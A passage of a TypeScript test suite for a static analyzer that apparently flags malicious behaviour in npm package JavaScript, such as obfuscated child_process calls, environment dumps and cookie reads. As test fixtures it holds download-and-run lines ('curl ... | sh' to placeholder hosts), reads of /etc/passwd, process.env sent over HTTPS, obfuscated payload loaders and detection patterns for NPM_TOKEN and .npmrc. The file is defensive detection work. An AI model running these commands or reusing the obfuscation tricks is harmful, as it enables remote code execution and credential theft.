import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  analyzeCachedFile,
  analyzeJavaScript,
  DEFAULT_JS_LIMITS,
  assessObfuscation,
  commandOfCall,
  searchTokens,
  unpackPacker,
  type JsAnalysis,
  type JsAstAnalysis,
} from '../../src/analysis/javascript/index.js';

function ast(source: string): JsAstAnalysis {
  const a: JsAnalysis = analyzeJavaScript(source);
  if (a.mode !== 'ast') throw new Error(`expected a parse, got: ${a.reason}`);
  return a;
}

const commands = (source: string) => ast(source).calls.map(commandOfCall).filter((c): c is string => c !== undefined);

describe('resolving what a call runs', () => {
  it('follows require aliases, destructuring with renames and concatenated module names', () => {
    const a = ast("const cp = require('child' + '_process');\nconst { exec: run } = cp;\nrun('ls');\n");
    expect(a.calls.find((c) => c.callee === 'child_process.exec')).toMatchObject({ line: 3, excerpt: "run('ls')" });
  });

  it('follows ESM default, named and namespace imports, with the node: prefix', () => {
    const a = ast("import cp from 'node:child_process';\nimport { spawn as s } from 'child_process';\nimport * as ns from 'child_process';\ncp.execSync('a');\ns('b');\nns.execFile('c');\n");
    expect(a.calls.map((c) => c.callee)).toEqual(['child_process.execSync', 'child_process.spawn', 'child_process.execFile']);
    expect(a.sourceType).toBe('module');
  });

  it("sees through compilers' module interop helpers (tsc, tslib, Babel, esbuild)", () => {
    const a = ast(`var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
const https_1 = __importDefault(require("https"));
const cp = tslib_1.__importStar(require("child_process"));
const os = _interopRequireDefault(require("os")).default;
const fs = __toESM(require("fs"));
https_1.default.request({ hostname: 'x.example' });
(0, cp.execSync)('id');
os.hostname();
fs.readFileSync('/etc/passwd');
`);
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['https.request', 'child_process.execSync', 'os.hostname', 'fs.readFileSync']));
  });

  it("follows Node's module loader called directly and a dynamic import's then()", () => {
    const a = ast(`const cp = module.constructor._load('child_process');\ncp.exec('a');\nrequire('module')._load('os').hostname();\nconst load = process.mainModule.constructor._load;\nload('fs').readFileSync('/etc/passwd');\nimport('node:child_process').then((m) => m.execSync('b'));\nimport('https').then(({ request }) => request('https://x.example'));\n`);
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.exec', 'os.hostname', 'fs.readFileSync', 'child_process.execSync', 'https.request']));
  });

  it('follows require under a name of the file\'s own: a function or arrow that returns require(its parameter)', () => {
    const a = ast(`;(function () { var q = function (n) { return require(n); }, o = q('os'); q('child_process').exec('id'); o.hostname(); })();\nfunction load(m) { return require(m); }\nload('fs').readFileSync('/etc/passwd');\nconst r = (m) => require(m);\nr('https').get('https://x.example');\nconst notWrapper = (m) => require(m + '-plugin');\nnotWrapper('fs').readFileSync('x');\n`);
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.exec', 'os.hostname', 'fs.readFileSync', 'https.get']));
    expect(a.calls.filter((c) => c.callee === 'fs.readFileSync').map((c) => c.line)).toEqual([3]);
  });

  it('follows modules loaded by mapping a list through require, taken apart by array destructuring or an index', () => {
    const a = ast(`const mods = ['fs', 'child_process', 'os'].map((n) => require(n));\nconst [fs, cp] = mods;\ncp.exec('id');\nmods[2].hostname();\nconst [https] = ['https'].map(require);\nhttps.get('https://x.example');\nfs.readFileSync('/etc/passwd');\n`);
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['child_process.exec', 'os.hostname', 'https.get', 'fs.readFileSync']));
  });

  it("resolves a webpack or ncc bundle's require of a module that re-exports a builtin", () => {
    const a = ast(`(() => { var __webpack_modules__ = ({
/***/ 37: ((module) => { "use strict"; module.exports = require("os"); }),
/***/ "./node_modules/x/https.js": (function (module) { module.exports = require('https'); }),
/***/ 100: ((m, e, __webpack_require__) => { const os = __webpack_require__(37); const https = __webpack_require__("./node_modules/x/https.js"); https.get('https://x.example/?h=' + os.hostname()); })
}); function __webpack_require__(id) { return {}; } __webpack_require__(100); })();
`);
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['os.hostname', 'https.get']));
    // An id no module re-exports stays unknown.
    expect(ast('const x = __nccwpck_require__(999); x.exec("id");').calls.map((c) => c.callee)).not.toContain('child_process.exec');
  });

  it('builds command strings from concatenation, template literals, joins and argv arrays', () => {
    expect(
      commands("const { execSync } = require('child_process');\nconst tool = 'np' + 'm';\nexecSync(`${tool} publish --tag ${process.argv[2]}`);\nexecSync(['npm', 'version'].join(' '));\nrequire('child_process').spawn(tool, ['pub' + 'lish', '--access', 'public']);\n"),
    ).toEqual(['npm publish --tag …', 'npm version', 'npm publish --access public']);
  });

  it('decodes base64/hex module names and eval payloads', () => {
    const a = ast("const x = require(Buffer.from('6368696c645f70726f63657373', 'hex').toString());\nx.exec('id');\neval(atob('Y29uc29sZS5sb2coMSk='));\n");
    expect(a.calls.map((c) => c.callee)).toContain('child_process.exec');
    const evalCall = a.calls.find((c) => c.callee === 'eval')!;
    expect(evalCall.decodedArgument).toBe(true);
    expect(evalCall.args[0]).toMatchObject({ kind: 'string', value: 'console.log(1)' });
  });

  it('does not take an accumulated variable for its initial constant', () => {
    const a = ast("let body = '';\nres.on('data', (d) => (body += d));\nres.on('end', () => new Function(body)());\n");
    expect(a.calls.find((c) => c.callee === 'Function')?.args[0]).toBeUndefined();
  });

  it('keeps the temp directory visible in built paths', () => {
    const a = ast("const os = require('os'); const path = require('path'); const fs = require('fs');\nfs.writeFileSync(path.join(os.tmpdir(), 'x.sh'), data);\n");
    expect(a.calls.find((c) => c.callee === 'fs.writeFileSync')?.args[0]).toMatchObject({ value: '$TMPDIR/x.sh', partial: true });
  });
});

describe('repetition of call sites', () => {
  const kindOf = (source: string, callee = 'child_process.execSync') => ast(source).calls.find((c) => c.callee === callee)?.repetition;
  const head = "const { execSync } = require('child_process');\n";

  it('unbounded loops, counted batches, timers, recursion and callers of repeating functions', () => {
    expect(kindOf(head + "while (true) { execSync('x'); }")).toBe('unbounded-loop');
    expect(kindOf(head + "for (;;) { execSync('x'); }")).toBe('unbounded-loop');
    expect(kindOf(head + "for (let i = 0; i < 100; i++) execSync('x');")).toBe('counted-loop');
    expect(kindOf(head + "setInterval(() => execSync('x'), 1000);")).toBe('timer');
    expect(kindOf(head + "function tick() { execSync('x'); setTimeout(tick, 5); }\ntick();")).toBe('recursion');
    expect(kindOf(head + "async function one() { execSync('x'); }\n(async () => { while (1) { await one(); } })();")).toBe('unbounded-loop');
    expect(kindOf(head + "function inner() { execSync('x'); }\nfunction outer() { inner(); }\nsetInterval(outer, 5);")).toBe('called-repeatedly');
    expect(kindOf(head + "function main() { execSync('x'); return sleep(5).then(main); }\nmain();")).toBe('recursion');
  });

  it('bounded iteration and retries are not repetition', () => {
    expect(kindOf(head + "for (const p of packages) execSync('x');")).toBeUndefined();
    expect(kindOf(head + "for (let attempt = 0; attempt < 3; attempt++) execSync('x');")).toBeUndefined();
    expect(kindOf(head + "while (queue.length) execSync('x');")).toBeUndefined();
    expect(kindOf(head + "setTimeout(() => execSync('x'), 10);")).toBeUndefined();
  });
});

describe('property writes, randomness and the environment', () => {
  it('marks writes whose value comes from randomness through functions and variables', () => {
    const a = ast("const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json'));\nconst r = (n) => Math.floor(Math.random() * n);\nconst v = r(5) + '.' + r(5);\npkg.version = v;\npkg.name = 'fixed';\ndelete pkg.private;\nconst err = new Error('x'); err.name = 'Custom';\n");
    expect(a.propertyWrites.map((w) => [w.property, w.object, w.operation, w.randomValue])).toEqual([
      ['version', 'pkg', 'assign', true],
      ['name', 'pkg', 'assign', false],
      ['private', 'pkg', 'delete', false],
      ['name', 'err', 'assign', false],
    ]);
    expect(a.propertyWrites[0]!.objectOrigin).toMatch(/JSON\.parse/);
    expect(a.propertyWrites[3]!.objectOrigin).toMatch(/new Error/);
  });

  it('tells a dump of process.env from reading a key or handing it to a child', () => {
    const a = ast("const t = process.env.NPM_TOKEN;\nconst { HOME } = process.env;\nspawn('x', [], { env: process.env });\nconst child = { ...process.env, A: 1 };\nsend(JSON.stringify(process.env));\npost(JSON.stringify({ ...process.env }));\n");
    expect(a.envReads.map((r) => [r.name, r.line])).toEqual([
      ['NPM_TOKEN', 1],
      ['HOME', 2],
      // A copy is kept apart from a dump: install-scripts ignores it, the behaviour model follows where it goes.
      ['*copy', 4],
      ['*', 5],
      ['*', 6],
    ]);
  });

  it('the copies compilers and installers write are not dumps: Object.assign, `env ?? process.env` into a child, colour-key destructuring', () => {
    const src = [
      'const env = Object.assign(Object.assign({}, process.env), { npm_config_global: undefined });',
      'spawn(cmd, { env: withoutPaths(options.env ?? process.env, ttys()) });',
      'var b, w; ({ FORCE_COLOR: b, NO_COLOR: w } = process.env || {});',
      'https.request(u).end(JSON.stringify(Object.assign({}, process.env)));',
      'send(strip(process.env || {}));',
      "const proxy = _.pick(process.env, ['HTTP_PROXY', 'HTTPS_PROXY']);",
      // esbuild's spread helpers (@netlify/esbuild's install.js) and a copy in one branch of an `env` option (lint's dist).
      'const childEnv = __spreadProps(__spreadValues({}, process.env), { npm_config_global: void 0 });',
      'spawnSync(cmd, args, { env: options.env ? { ...process.env, ...options.env } : process.env });',
      'https.request(u).end(JSON.stringify(__spreadValues({}, process.env)));',
      // The environment handed to a helper with an anchored prefix pattern (browserstack-cypress-cli); a credential prefix stays a dump.
      'const pattern = /^cypress_/i; const keys = this.getKeysMatchingPattern(process.env, pattern);',
      'send(pick(process.env, /^AWS_SECRET/));',
    ].join('\n');
    expect(ast(src).envReads.map((r) => [r.name, r.line])).toEqual([
      ['FORCE_COLOR', 3],
      ['NO_COLOR', 3],
      ['*', 4],
      ['*', 5],
      ['HTTP_PROXY', 6],
      ['HTTPS_PROXY', 6],
      ['*', 9],
      ['cypress_*', 10],
      ['*', 11],
    ]);
  });

  it('knows whether the file exports an API', () => {
    expect(ast('module.exports = function () {};').exportsApi).toBe(true);
    expect(ast('export const a = 1;').exportsApi).toBe(true);
    expect(ast("require('x')();").exportsApi).toBe(false);
  });
});

describe('indirect calls and data flow', () => {
  it('resolves .call/.apply/.bind, Reflect.get and keys picked by comparison', () => {
    const a = ast("const cp = require('child_process');\ncp.spawn.apply({}, ['sh', ['-c', 'id']]);\ncp['ex' + 'ec'].call(cp, 'whoami');\nReflect.get(cp, 'execSync').bind(null)('uname');\nObject.entries(cp).find(([k]) => k === 'fork')[1]('w.js');\n");
    expect(a.calls.filter((c) => /^child_process\.\w+$/.test(c.callee)).map((c) => [c.callee, c.line])).toEqual([
      ['child_process.spawn', 2],
      ['child_process.exec', 3],
      ['child_process.execSync', 4],
      ['child_process.fork', 5],
    ]);
    expect(a.calls.find((c) => c.callee === 'child_process.exec')!.args[0]).toMatchObject({ kind: 'string', value: 'whoami' });
  });

  it('records what values flow into variables, callbacks and request handles', () => {
    const a = ast("const os = require('os'), https = require('https'), fs = require('fs');\nconst u = os.userInfo();\nconst body = JSON.stringify({ u });\nfor (const f of files) list.push(f);\nconst req = https.request(url);\nreq.write(body);\nfs.readFile(p, (err, data) => send(data));\n");
    expect(a.dataflow.body).toContain('u');
    expect(a.dataflow.f).toContain('files');
    expect(a.dataflow.list).toContain('f');
    expect(a.calls.find((c) => c.callee === 'os.userInfo')!.flow?.holder).toBe('u');
    expect(a.calls.find((c) => c.callee === 'fs.readFile')!.flow?.callbackParams).toEqual(['err', 'data']);
    expect(a.methodCalls.find((m) => m.method === 'write')).toMatchObject({ object: 'req', flow: { argNames: ['body'] } });
  });

  it('gives each expression only its own names, however many the one before it had', () => {
    // The names of each expression are gathered in scratch space shared by every call; a longer
    // expression before a shorter one must not leave its names behind.
    const a = ast('const x = p + q + r + v;\nconst y = s;\nsend(t, p, q, r);\nsend(u);\nsend();\n');
    expect([...a.dataflow.x!].sort()).toEqual(['p', 'q', 'r', 'v']);
    expect(a.dataflow.y).toEqual(['s']);
    expect(a.calls.filter((c) => c.callee === 'local:send').map((c) => [...c.flow!.argNames].sort())).toEqual([['p', 'q', 'r', 't'], ['u']]);
  });
});

describe('obfuscation', () => {
  it('flags obfuscator-style code but not ordinary minified code', () => {
    const obfuscated = "var _0x1a2b=['\\x6c\\x6f\\x67','\\x68\\x65\\x6c\\x6c\\x6f'];var _0x3c4d=function(_0x5e6f){return _0x1a2b[_0x5e6f];};var _0x7a8b=1,_0x9c0d=2,_0xa1b2=3,_0xc3d4=4,_0xe5f6=5;console[_0x3c4d(0)](_0x3c4d(1)+_0x7a8b+_0x9c0d+_0xa1b2+_0xc3d4+_0xe5f6);";
    expect(assessObfuscation(analyzeJavaScript(obfuscated))).toMatchObject({ obfuscated: true });
    const minified = '!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){"use strict";function e(e,t){return e+t}return{add:e,version:"1.2.3"}});';
    expect(assessObfuscation(analyzeJavaScript(minified))).toEqual({ obfuscated: false, reasons: [] });
  });
});

describe('long call chains resolve in linear time', () => {
  // Each link used to resolve its object twice (callee and method target): 2^n work. A 60-link chain
  // (regexpu-core's data files) never finished; a fixed-time bound would fail on any doubling.
  it('a 300-link method chain and a 300-link concat chain are read quickly, and calls inside still resolve', () => {
    const ranges = Array.from({ length: 300 }, (_, i) => `.addRange(0x${i.toString(16)}, 0x${(i + 1).toString(16)})`).join('\n  ');
    const concat = Array.from({ length: 300 }, (_, i) => `.concat(part('k${i}'))`).join('');
    const source = `const regenerate = require('regenerate');\nexports.SET = regenerate()\n  ${ranges};\nmodule.exports.calls = [[]]${concat};\nrequire('child_process').execSync('npm' + ' publish');\n`;
    const started = Date.now();
    const a = ast(source);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(a.calls.map(commandOfCall)).toContain('npm publish');
  });

  it('a short chain still resolves to a known value through methods', () => {
    const a = ast("const cp = require('child_process');\ncp.execSync(['npm', 'publish'].join(' ').concat(' --tag next'));\n");
    expect(a.calls.map(commandOfCall)).toContain('npm publish --tag next');
  });
});

describe('fallbacks and caps', () => {
  it('falls back to tokens on syntax errors and says where the parse failed', () => {
    const a = analyzeJavaScript('const x = ;\n');
    expect(a).toMatchObject({ mode: 'tokens' });
    expect(a.mode === 'tokens' && a.reason).toMatch(/^parse failed: Unexpected token \(1:10\)/);
    expect(searchTokens("ok\nrequire('child_process').exec('npm publish')\n", { publish: /npm\s+publish/ })).toEqual([{ token: 'publish', line: 2, excerpt: 'npm publish' }]);
  });

  it('finds the same hits as one search per pattern, whatever the flags, backreferences and anchors', () => {
    const patterns = { npmrc: /(^|[/\\])\.npmrc\b/i, quoted: /(['"])publish\1/, curl: /\bcurl\b[^\n]{0,20}\|\s*sh\b/i, exact: /NPM_TOKEN/, empty: /x*/ };
    const one = (text: string) =>
      Object.entries(patterns).flatMap(([token, pattern]) => {
        const hits = [...text.matchAll(new RegExp(pattern.source, `${pattern.flags}g`))].filter((m) => m[0].length > 0).slice(0, 20);
        return hits.map((m) => ({ token, line: text.slice(0, m.index).split('\n').length, excerpt: m[0] }));
      });
    const texts = ['const a = 1;\n', '.NPMRC\nrun("publish")\n', "x\nCURL https://a | sh\nrun('publish')\n", 'NPM_TOKEN=1 npm_token', "run('publish\")"];
    for (const text of texts) {
      const found = searchTokens(text, patterns).filter((h) => h.token !== 'empty');
      expect(found.map(({ token, line, excerpt }) => ({ token, line, excerpt })).sort((a, b) => a.line - b.line || a.token.localeCompare(b.token))).toEqual(
        one(text).filter((h) => h.token !== 'empty').sort((a, b) => a.line - b.line || a.token.localeCompare(b.token)),
      );
    }
    expect(searchTokens('run("publish")', { quoted: /(['"])publish\1/ })).toHaveLength(1);
    expect(searchTokens("run('publish\")", { quoted: /(['"])publish\1/ })).toEqual([]);
  });

  it('parses scripts that are not modules (with statements, hashbang, top-level return)', () => {
    const a = analyzeJavaScript("#!/usr/bin/env node\nwith (obj) { run(); }\nreturn;\n");
    expect(a).toMatchObject({ mode: 'ast', sourceType: 'script' });
  });

  it('a 50 MB minified file is not parsed, and is handled fast', () => {
    const line = 'var a=function(b){return b+1};';
    const huge = line.repeat(Math.ceil((50 * 1024 * 1024) / line.length));
    const started = performance.now();
    const a = analyzeJavaScript(huge);
    const hits = searchTokens(huge, { publish: /npm\s+publish/, eval: /\beval\(/ });
    const elapsedMs = performance.now() - started;
    expect(a.mode).toBe('tokens');
    expect(a.mode === 'tokens' && a.reason).toMatch(/over the 1048576-byte parse cap/);
    expect(hits).toEqual([]);
    expect(elapsedMs).toBeLessThan(3000);
  });

  it('refuses pathological nesting before the parser can exhaust the stack', () => {
    const a = analyzeJavaScript('x = ' + '['.repeat(100_000) + ']'.repeat(100_000) + ';');
    expect(a.mode === 'tokens' && a.reason).toMatch(/brackets nest 100000 deep/);
    const moderate = analyzeJavaScript('x = ' + '['.repeat(300) + ']'.repeat(300) + ';');
    expect(moderate.mode).toBe('ast');
  });

  it('stops the walk at the node cap and marks the result truncated', () => {
    const source = `var big = [${'1,'.repeat(200_000)}];\nrequire('child_process').exec('late');\n`;
    const a = analyzeJavaScript(source, { maxParseBytes: 1024 * 1024, maxTokenScanBytes: 1024 * 1024, maxNestingDepth: 400, maxNodes: 50_000, maxMillis: 5000 });
    expect(a).toMatchObject({ mode: 'ast', truncated: true });
    expect(a.mode === 'ast' && a.calls.some((c) => c.callee === 'child_process.exec')).toBe(false);
  });
});

describe('never throws on arbitrary input', () => {
  it('analyzeJavaScript and parseShell accept any text', async () => {
    const fc = await import('fast-check');
    const { parseShell } = await import('../../src/analysis/shell.js');
    const pieces = fc.constantFrom('require(', "'child_process'", ')', '(', '{', '}', '[', ']', '`${', '`', '"', "'", '+', 'while(true)', 'eval(', 'x', '=', ';', '\n', '$(', '|', '&&', '\\', '#', 'import * as a from "b"', 'process.env', '.', 'delete a.b');
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
        const text = parts.join(' ');
        const a = analyzeJavaScript(text);
        expect(['ast', 'tokens']).toContain(a.mode);
        expect(Array.isArray(parseShell(text))).toBe(true);
      }),
      { numRuns: 300 },
    );
  });
});

describe('analyzeCachedFile', () => {
  it('keys the shared parse by its limits: a small budget does not leak into a larger one', () => {
    const files = {};
    const source = 'const a = require("child_process");\n' + 'a.exec("x");\n'.repeat(50);
    const small = analyzeCachedFile(files, 'index.js', source, { ...DEFAULT_JS_LIMITS, maxParseBytes: 10 });
    expect(small.mode).toBe('tokens');
    const full = analyzeCachedFile(files, 'index.js', source);
    expect(full.mode).toBe('ast');
    // The same limits still share one reading.
    expect(analyzeCachedFile(files, 'index.js', source)).toBe(full);
  });

  it('parses a file once for every cap it fits under (detectors ask with different caps)', () => {
    const files = {};
    const source = 'module.exports = () => 1;\n';
    const first = analyzeCachedFile(files, 'index.js', source, { ...DEFAULT_JS_LIMITS, maxParseBytes: 256 * 1024 });
    expect(analyzeCachedFile(files, 'index.js', source, { ...DEFAULT_JS_LIMITS, maxParseBytes: 512 * 1024 })).toBe(first);
    expect(analyzeCachedFile(files, 'index.js', source)).toBe(first);
    // A cap the file does not fit under is another reading.
    expect(analyzeCachedFile(files, 'index.js', source, { ...DEFAULT_JS_LIMITS, maxParseBytes: 8 }).mode).toBe('tokens');
  });
});

describe("unpackPacker (Dean Edwards' packer, undone by substitution)", () => {
  const call = (payload: string, radix: number, words: string[]) => `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('${payload}',${radix},${words.length},'${words.join('|')}'.split('|'),0,{}))`;

  it('puts each word back for its base-a index, keeps tokens with an empty entry, and undoes the quote escapes', () => {
    expect(unpackPacker(call("0(\\'1\\').2(\\'3\\')", 36, ['require', 'child_process', 'exec', 'id']))).toBe("require('child_process').exec('id')");
    expect(unpackPacker(call('0 1 2', 36, ['a', '', 'c']))).toBe('a 1 c');
  });

  it('reads bases above 36 with the packer\'s own digits (0-9a-zA-Z)', () => {
    const words = Array.from({ length: 40 }, (_, i) => `w${i}`);
    expect(unpackPacker(call('A B', 62, words))).toBe('w36 w37');
  });

  it('gives nothing for a file without a packer call, or for a call it cannot read', () => {
    expect(unpackPacker('eval(function(a){return a}("x"))')).toBeUndefined();
    expect(unpackPacker("eval(function(p,a,c,k,e,d){return p}(p0,36,2,'a|b'.split('|'),0,{}))")).toBeUndefined();
  });
});

describe("javascript-obfuscator's string array, read without running it", () => {
  const fixture = (name: string) => readFileSync(join(import.meta.dirname, '..', '..', 'fixtures', 'obfuscated', name), 'utf8');

  it.each(['string-array-rotated.js', 'string-array-base64.js', 'string-array-plain.js', 'medium-preset.js'])('%s: decoder calls resolve to the strings, rotation and base64 undone', (name) => {
    const a = ast(fixture(name));
    expect(a.calls.map((c) => c.callee)).toEqual(expect.arrayContaining(['https.request', 'os.hostname', 'JSON.stringify']));
    expect(a.envReads.some((r) => r.name === '*')).toBe(true);
  });

  it('a lookup that replaces itself and takes the offset off inside its index (`table[n - 0x1a0]`) is a decoder too', () => {
    const code = `function lookup(i, _u) {\n  var table = strings();\n  return (lookup = function (n) { return table[n - 0x1a0]; }), lookup(i, _u);\n}\nfunction strings() {\n  var list = ['child_process', 'execSync', 'whoami', 'log'];\n  strings = function () { return list; };\n  return strings();\n}\nconsole[lookup(0x1a3)]('ready');\nrequire(lookup(0x1a0))[lookup(0x1a1)](lookup(0x1a2));\n`;
    const call = ast(code).calls.find((c) => c.callee === 'child_process.execSync');
    expect(call?.args[0]).toEqual({ kind: 'string', value: 'whoami', partial: false });
  });

  it('the older layout resolves too: the array declared at the top, rotated a counted number of times, entries in platform base64', () => {
    const strings = ['child_process', 'execSync', 'curl -s https://203.0.113.9/x | sh', 'log'];
    const count = 0x2b9;
    // Stored rotated right, so that `count` left shifts put each string back at its index.
    const shift = count % strings.length;
    const stored = [...strings.slice(strings.length - shift), ...strings.slice(0, strings.length - shift)].map((t) => `'${Buffer.from(t).toString('base64')}'`);
    const code = `var _0x2d8f=[${stored.join(',')}];(function(_0x4a1b,_0x1c9e){var _0x3f7a=function(_0x5b2c){while(--_0x5b2c){_0x4a1b['push'](_0x4a1b['shift']());}};_0x3f7a(++_0x1c9e);}(_0x2d8f,${count}));var _0x3c1e=function(_0x4a1b){_0x4a1b=_0x4a1b-0x0;var _0x1c9e=_0x2d8f[_0x4a1b];if(_0x3c1e['cache']===undefined){_0x3c1e['cache']={};}var _0x5b2c=_0x3c1e['cache'][_0x4a1b];if(_0x5b2c===undefined){_0x5b2c=Buffer['from'](_0x1c9e,'base64')['toString']('utf8');_0x3c1e['cache'][_0x4a1b]=_0x5b2c;}return _0x5b2c;};console[_0x3c1e(0x3)]('ok');require(_0x3c1e(0x0))[_0x3c1e(0x1)](_0x3c1e(0x2));`;
    const call = ast(code).calls.find((c) => c.callee === 'child_process.execSync');
    expect(call?.args[0]).toEqual({ kind: 'string', value: strings[2], partial: false });
  });

  it('a wrong rotation target leaves the strings unresolved rather than misread', () => {
    const code = fixture('string-array-rotated.js').replace('0x6689d', '0x1');
    expect(ast(code).calls.map((c) => c.callee)).not.toContain('https.request');
  });
});

describe("the file's own string decoders, folded over constants (fold.ts)", () => {
  it.each([
    ['an XOR over a byte list', "const d = (a) => a.map((c) => String.fromCharCode(c ^ 7)).join('');\nrequire(d([100, 111, 110, 107, 99, 88, 119, 117, 104, 100, 98, 116, 116]))[d([98, 127, 98, 100])]('id');\n"],
    ['ROT13 with a declaration before its return', "function rot13(str) {\n  return str.replace(/[a-z]/gi, (c) => {\n    const base = c <= 'Z' ? 65 : 97;\n    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);\n  });\n}\nrequire(rot13('puvyq_cebprff'))[rot13('rkrp')]('id');\n"],
    ['hex pairs', "function unhex(h) { return h.replace(/../g, (m) => String.fromCharCode(parseInt(m, 16))); }\nconst parts = [unhex('6368696c645f70726f63657373'), unhex('65786563')];\nrequire(parts[0])[[parts[1]]]('id');\n"],
    ['a Caesar shift by a split, map and join', "const word = 'fyfd';\nconst unshift = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt() - 1)).join('');\nrequire('child_process')[unshift(word)]('id');\n"],
    // The key and the encoded names kept in top-level tables, handed over as an object's keys (XORIndex, 2025).
    ['an XOR with a key table over names kept in an object', "var K = [0x5a, 0x13, 0xc7];\nfunction _d(a) { return a.map(function (c, i) { return String.fromCharCode(c ^ K[i % K.length] ^ ((i * 7) & 0xff)); }).join(''); }\nvar S = { a: [57,124,160,35,107,187,0,80,144,6,48,249,125], b: [63,108,172,44], e: [[1, 2], [3]] };\nrequire(_d(S.a))[_d(S.b)]('id');\n"],
  ])('%s', (_how, source) => {
    expect(ast(source).calls.map((c) => c.callee)).toContain('child_process.exec');
  });

  it('leaves a helper unknown when it needs what it cannot know, and refuses patterns that could backtrack forever', () => {
    const outside = ast("let key = Date.now() % 7;\nconst d = (a) => a.map((c) => String.fromCharCode(c ^ key)).join('');\nrequire(d([100, 111]));\n");
    expect(outside.calls.map((c) => c.callee)).not.toContain('child_process');
    const started = Date.now();
    ast(`const f = (s) => s.replace(/(a+)+$/, '');\nrequire(f('${'a'.repeat(40)}!'));\n`);
    expect(Date.now() - started).toBeLessThan(2000);
  });
});


describe('the functions a file exports (exports.ts)', () => {
  const params = (source: string) => Object.fromEntries(Object.entries(ast(source).exportedFunctions).map(([name, fn]) => [name, fn.params]));

  it("reads CommonJS exports: properties, an object of functions, the module itself, tsc's `void 0` then the name", () => {
    expect(params(`exports.send = function (v) {}; module.exports.post = (url, body) => 1; const x = 1; exports.n = x;`)).toEqual({ send: ['v'], post: ['url', 'body'] });
    expect(params(`function addToQueue(value) {}\nmodule.exports = { addToQueue, other: (a) => a, m(b) { return b; }, c: 3 };`)).toEqual({ addToQueue: ['value'], other: ['a'], m: ['b'] });
    expect(params(`module.exports = function (text) {};`)).toEqual({ '': ['text'] });
    expect(params(`"use strict";\nexports.report = void 0;\nconst report = (data) => data;\nexports.report = report;`)).toEqual({ report: ['data'] });
  });

  it('reads ESM exports: declarations, lists with renames, the default', () => {
    expect(params(`export function a(x) {}\nexport const b = async (y, z) => y;\nfunction c(w) {}\nexport { c as d };\nexport default function (t) {}`)).toEqual({ a: ['x'], b: ['y', 'z'], d: ['w'], '': ['t'] });
    expect(params(`export { send } from './send.js';`)).toEqual({});
  });

  it('keeps where each exported function is written', () => {
    const source = `const pad = 1;\nexports.send = function (v) { return v; };`;
    const [start, end] = ast(source).exportedFunctions.send!.span;
    expect(source.slice(start, end)).toBe('function (v) { return v; }');
  });
});

describe("the page's cookies and whole stores (page-reads.ts)", () => {
  const reads = (source: string) => ast(source).pageReads.map((r) => [r.name, r.flow?.holder ?? null]);

  it('reads document.cookie and a store used whole, with the name that holds it', () => {
    expect(reads(`const c = document.cookie;\nconst all = JSON.stringify(Object.assign({}, window.localStorage));\nfor (const store of [sessionStorage]) store.key(0);`)).toEqual([['cookie', 'c'], ['localStorage', 'all'], ['sessionStorage', 'store']]);
  });

  it('a cookie written, one key read, a check that storage exists and a local variable of that name are not reads', () => {
    expect(reads(`document.cookie = 'a=1';\nconst t = localStorage.getItem('theme');\nif (typeof window.localStorage !== 'undefined' && window.sessionStorage) {}\nconst o = { localStorage: 1 };`)).toEqual([]);
    expect(reads(`const localStorage = new Map();\nsend(JSON.stringify(localStorage));`)).toEqual([]);
  });

  it("a request named by the file's own string helper is a disguised call; a name in a plain variable is not", () => {
    const hidden = ast(`const shift = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt() - 1)).join('');\nself[shift('gfudi')]('https://x.example/');`);
    expect(hidden.calls.find((c) => c.callee === 'fetch')?.disguise).toBe("a name decoded by the file's own function");
    const plain = ast(`const name = 'fetch';\nself[name]('https://x.example/');`);
    expect(plain.calls.find((c) => c.callee === 'fetch')?.disguise).toBeUndefined();
  });
});

describe("Deno's and Bun's environment", () => {
  it('Deno.env.toObject() is the whole environment, Deno.env.get(name) one variable, Bun.env the same object as process.env', () => {
    const a = ast(`const all = Deno.env.toObject();\nconst t = Deno.env.get('NPM_TOKEN');\nconst home = Bun.env.HOME;\nDeno.env.set('X', '1');\n`);
    expect(a.envReads.map((r) => [r.name, r.flow?.holder])).toEqual([['*', 'all'], ['NPM_TOKEN', 't'], ['HOME', 'home']]);
  });
});

describe('fold.ts: decoding loops over a table of the file (the axios/plain-crypto-js dropper shape)', () => {
  const encode = (text: string, key: string) => Buffer.from([...Buffer.from(text)].map((b, i) => b ^ key.charCodeAt(i % key.length))).toString('base64').split('').reverse().join('');

  it('a helper that reverses, base64-decodes and XORs an entry of a top-level table in a for loop folds to the text', () => {
    const table = ['child_process', 'curl -s http://URL/x -o /tmp/x && sh /tmp/x', 'example.invalid'].map((s) => encode(s, 'k3y!'));
    const code = `const _s = ${JSON.stringify(table)};\nconst _k = 'k3y!';\nfunction _t(i) { const b = Buffer.from(_s[i].split('').reverse().join(''), 'base64'); let o = ''; for (let j = 0; j < b.length; j++) o += String.fromCharCode(b[j] ^ _k.charCodeAt(j % _k.length)); return o; }\nconst C = require(_t(0));\nC.exec(_t(1).split('URL').join(_t(2)));\n`;
    const exec = ast(code).calls.find((c) => c.callee === 'child_process.exec');
    expect(exec?.args[0]).toEqual({ kind: 'string', value: 'curl -s http://example.invalid/x -o /tmp/x && sh /tmp/x', partial: false });
  });

  it('a loop that never ends, or a helper that writes outside its own variables, stays unknown', () => {
    const forever = ast(`const _s = ['YQ=='];\nfunction d(i) { let o = ''; for (let j = 0; j >= 0; j++) o += 'a'; return o; }\nrequire(d(0));\n`);
    expect(forever.calls.map((c) => c.callee)).not.toContain('a');
    const outside = ast(`let seen = '';\nfunction d(s) { seen = s; return s; }\nrequire(d('fs')).readFileSync('x');\n`);
